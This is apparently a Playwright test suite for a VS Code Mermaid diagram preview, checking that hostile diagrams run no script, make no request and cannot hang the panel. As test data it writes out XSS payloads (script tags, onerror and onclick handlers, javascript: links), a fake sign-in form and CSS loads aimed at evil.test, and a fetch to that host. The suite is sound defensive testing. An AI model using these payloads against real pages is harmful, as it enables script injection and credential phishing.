/** What a hostile diagram can do in the preview: nothing. Watched at the network, in both pages and on the clock. */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../support/browser.ts';
import { attacks } from './attacks.ts';
import { pie } from './figures.ts';
import { Preview } from './preview.ts';
import { PreviewServer } from './previewServer.ts';
import { assault, traces, Watch } from './siege.ts';

const hostileFolder = path.resolve(import.meta.dirname, '../../../shared/hostile');

describe('preview: safe', function () {
  this.timeout(180_000);
  let browser: Browser;
  let server: PreviewServer;
  let watch: Watch;
  let preview: Preview;

  before(async () => {
    watch = await Watch.start();
    const flags = [`--proxy-server=http://127.0.0.1:${watch.port}`];
    [browser, server] = await Promise.all([launchBrowser({ flags }), PreviewServer.start()]);
  });
  after(async () => {
    await browser.close();
    await server.stop();
    watch.stop();
  });
  afterEach(() => {
    watch.forget();
  });

  const draw = async (text: string, type = 'flowchart-v2'): Promise<void> => {
    const shown = await preview.show([{ text, type }]);
    assert.deepEqual(shown.failures, []);
  };

  describe('our own attacks', () => {
    beforeEach(async () => {
      preview = await Preview.open(browser, server, { budget: 20_000 });
    });
    afterEach(async () => {
      assert.deepEqual(preview.errors, []);
      assert.deepEqual(preview.violations, []);
      assert.deepEqual(watch.requests, []);
      assert.deepEqual(await traces(preview), []);
      await preview.close();
    });

    it('runs no script of a label', async () => {
      await draw(
        'flowchart LR\n  A["<script>xss()</script><img src=x onerror=xss()> label"] --> B["<b onclick=xss()>bold</b>"]',
      );
      await preview.page.locator('.picture b').click();
      assert.match(await preview.drawnText(), /label.*bold/);
    });

    it('keeps nothing of a form', async () => {
      await draw(
        'flowchart LR\n  A["<form action=http://evil.test><input name=password autofocus><button>Sign in</button></form> label"]',
      );
      assert.equal(await preview.page.evaluate(() => document.activeElement?.tagName), 'BODY');
    });

    it('leads nowhere: a link asks the host, and only if its scheme can be opened', async () => {
      await draw(
        [
          'flowchart LR',
          '  A["<a href=javascript:xss()>one</a>"] --> B["<a href=https://example.test/x>two</a>"]',
          '  C["<a href=command:workbench.action.quit>three</a>"] --> D[four]',
          '  click D "https://example.test/y"',
        ].join('\n'),
      );
      const links = preview.page.locator('.picture [data-link]');
      assert.deepEqual(await links.evaluateAll((found) => found.map((link) => link.getAttribute('data-link'))), [
        'https://example.test/x',
        'https://example.test/y',
      ]);
      await preview.page.getByText('one', { exact: true }).click();
      await preview.page.getByText('three', { exact: true }).click();
      await preview.page.getByText('two', { exact: true }).click();
      await preview.page.getByText('four', { exact: true }).click();
      const asked = preview.posted.flatMap((message) => (message.type === 'openLink' ? [message.href] : []));
      assert.deepEqual(asked, ['https://example.test/x', 'https://example.test/y']);
      assert.equal(new URL(preview.page.url()).pathname, '/');
    });

    it('opens a link with the keyboard too', async () => {
      await draw('flowchart LR\n  A[go]\n  click A "https://example.test/"');
      await preview.page.locator('[data-link]').focus();
      await preview.page.keyboard.press('Enter');
      assert.equal((await preview.said('openLink')).href, 'https://example.test/');
    });

    it('loads nothing for a style, and says how much it stopped', async () => {
      await draw(
        'flowchart LR\n  A["<span style=\'background:url(http://evil.test/a);--x:u\\72l(http://evil.test/b)\'>styled</span>"]',
      );
      await preview.page.getByText(/external references blocked/).waitFor();
      assert.doesNotMatch(await pictureMarkup(preview), /evil\.test/);
    });

    it('lets a picture cover nothing but its sheet', async () => {
      await draw('flowchart LR\n  A["<div style=\'position:fixed;inset:0;z-index:9999;background:red\'>cover</div>"]');
      const top = await preview.page.evaluate(() => document.elementFromPoint(60, 16)?.closest('.toolbar') !== null);
      assert.ok(top, 'the toolbar is still on top');
    });

    it('lets no diagram change what is protected', async () => {
      await draw(
        [
          '%%{init: {"securityLevel": "loose", "themeCSS": "* { outline: 9px solid red }", "fontFamily": "Evil", "secure": []}}%%',
          'flowchart LR',
          '  A["<img src=x onerror=xss()>label"]',
        ].join('\n'),
      );
      assert.doesNotMatch(await pictureMarkup(preview), /9px|Evil|onerror/);
    });

    for (const [limit, text, words] of [
      ['long texts', `flowchart LR\n${'  A --> B\n'.repeat(6_000)}`, 'Longer than 50000 characters'],
      ['long lines', `flowchart LR\n  A["${'x'.repeat(6_000)}"]`, 'Line 2 of the diagram is longer than 5000'],
      ['long styles', `flowchart LR\n  style A fill:#fff${',a:b'.repeat(300)}`, 'The style in line 2'],
      [
        'large numbers in a block diagram',
        'block\n  columns 99999\n  a',
        'Line 2 of the diagram has a number above 9999',
      ],
    ] as const) {
      it(`refuses ${limit} before Mermaid sees them`, async () => {
        await preview.show([{ text, type: 'flowchart-v2' }]);
        assert.ok((await preview.strips())[0]?.includes(words), (await preview.strips())[0]);
      });
    }

    it('believes no message that comes from a frame', async () => {
      await draw('flowchart LR\n  A[safe]');
      const frame = preview.page.frames().find((candidate) => candidate !== preview.page.mainFrame());
      assert.ok(frame !== undefined);
      await frame.evaluate(() => parent.postMessage({ type: 'nothing', seq: 9, reason: 'no-document' }, '*'));
      await draw('flowchart LR\n  B[still here]');
      assert.match(await preview.drawnText(), /still here/);
      assert.equal(await frame.evaluate(() => typeof Reflect.get(window, 'acquireVsCodeApi')), 'undefined');
      await assert.rejects(
        frame.evaluate(() => Reflect.get(parent, 'document') as unknown),
        /cross-origin|Blocked a frame/,
      );
      await assert.rejects(frame.evaluate(async () => (await fetch('/frame.js')).status));
    });
  });

  describe('where the frame has no thread of its own', () => {
    let narrow: Browser;

    before(async () => {
      // As in browsers that keep a frame without an origin in its page's process.
      narrow = await launchBrowser({ flags: ['--disable-features=IsolateSandboxedIframes'] });
    });
    after(() => narrow.close());

    it('finds out, and lowers the limits of what is drawn', async () => {
      preview = await Preview.open(narrow, server, { budget: 20_000 });
      await preview.show([pie]);
      const { message } = await preview.said('note');
      assert.match(message, /^the frame shares the panel's thread; the limits are lowered/);
      await preview.show(
        [{ text: `flowchart LR\n${'  A --> B\n'.repeat(2_500)}`, type: 'flowchart-v2' }],
        0,
        'long.md',
      );
      assert.match((await preview.strips())[0] ?? '', /Longer than 20000 characters/);
      assert.deepEqual((await preview.show([pie], 0, 'again.md')).failures, []);
      await preview.close();
    });
  });

  /** Shows them all, one after the other, in one preview, which must hold and be of use afterwards. */
  const withstand = async (texts: readonly (readonly [name: string, text: string])[]): Promise<void> => {
    preview = await Preview.open(browser, server, { budget: 5_000 });
    await preview.show([pie]);
    const harmed: string[] = [];
    const ended: string[] = [];
    let worst = { late: 0, name: '' };
    for (const [name, text] of texts) {
      const { harm, wasEnded, beats, late } = await assault(preview, watch, text, `${name}.md`);
      if (harm.length > 0) harmed.push(`${name}: ${harm.join('; ').slice(0, 500)}`);
      if (late > worst.late) worst = { late, name };
      if (!wasEnded) continue;
      ended.push(name);
      if (beats <= 20) harmed.push(`${name}: the panel had ${beats} beats while the diagram hung`);
    }
    console.log(`      the panel was late by ${Math.round(worst.late)} ms at most (${worst.name})`);
    if (ended.length > 0) console.log(`      ended after 5 s: ${ended.join(', ')}`);
    assert.deepEqual(harmed, []);
    // Not the picture from before, which the preview has kept: this one needs a frame.
    const last = { ...pie, text: `${pie.text}\n  "Afterwards" : 1` };
    assert.deepEqual((await preview.show([last])).failures, [], 'the preview is alive afterwards');
    assert.match(await preview.drawnText(), /Afterwards/);
    assert.equal(await preview.page.locator('iframe').count(), 1, 'a frame that hung was replaced');
    await preview.close();
  };

  describe('our own attacks, by the dozen', () => {
    for (const [aim, texts] of Object.entries(attacks)) {
      it(`${aim}: no script, no request, nothing to act on, nothing outside the picture`, async function () {
        this.timeout(600_000);
        await withstand(texts.map((text, index) => [`${aim} ${index + 1}`, text]));
      });
    }

    it('can be told: a page that is harmed is found out', async () => {
      preview = await Preview.open(browser, server);
      await preview.show([pie]);
      await preview.page.evaluate(() => {
        const picture = document.querySelector('.picture')?.shadowRoot;
        picture?.append(Object.assign(document.createElement('form'), { id: 'left' }));
        Reflect.set(Object.prototype, 'polluted', 1);
        document.querySelector<HTMLElement>('.scroller')?.focus();
      });
      const { harm } = await assault(preview, watch, pie.text, 'harmed.md');
      assert.ok(
        harm.some((words) => words.includes('polluted')),
        harm.join('; '),
      );
      assert.ok(
        harm.some((words) => words.includes('the focus is at')),
        harm.join('; '),
      );
      await preview.page.evaluate(() => Reflect.deleteProperty(Object.prototype, 'polluted'));
      await preview.page.evaluate(() => {
        location.hash = 'moved';
        void fetch('http://evil.test/x').catch(() => undefined);
      });
      const moved = await assault(preview, watch, pie.text, 'moved.md');
      assert.ok(moved.harm.length >= 1, 'the policy told of the request');
      await preview.close();
    });
  });

  describe('the collected attacks', () => {
    const files = existsSync(hostileFolder)
      ? (JSON.parse(readFileSync(path.join(hostileFolder, 'manifest.json'), 'utf8')) as readonly {
          readonly file: string;
          readonly category: string;
        }[])
      : [];

    it('are there', function () {
      if (files.length > 0) return;
      console.log('      skipped: there is no ../shared/hostile beside the repository');
      this.skip();
    });

    for (const category of new Set(files.map((entry) => entry.category))) {
      it(`${category}: no script, no request, nothing to act on, and the panel never hangs`, async function () {
        this.timeout(1_200_000);
        const ofCategory = files.filter((entry) => entry.category === category);
        await withstand(
          ofCategory.map(({ file }) => [file, readFileSync(path.join(hostileFolder, file), 'utf8')] as const),
        );
      });
    }
  });
});

const pictureMarkup = (preview: Preview): Promise<string> =>
  preview.page.evaluate(() => document.querySelector('.picture')?.shadowRoot?.innerHTML ?? '');
